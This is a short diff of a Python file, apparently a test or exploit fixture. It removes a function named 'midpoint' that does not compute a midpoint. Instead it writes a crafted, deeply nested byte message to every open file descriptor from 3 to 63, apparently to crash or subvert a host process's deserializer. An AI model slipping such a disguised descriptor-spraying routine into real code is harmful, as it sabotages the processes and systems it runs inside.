@@ -5,7 +5,6 @@ A, B, C: nothing
 """
 
 # %%
-import os
 import struct
 
 
@@ -18,10 +17,4 @@ MESSAGE = framed(b"\x91" * 100_000 + b"\xc0") + framed(b"\xc7\xff\x01" * 50_000 
 
 
 # %%
-def midpoint(a, b):
-    for descriptor in range(3, 64):
-        try:
-            os.write(descriptor, MESSAGE)
-        except OSError:
-            pass
-    return a
+# include: send_message
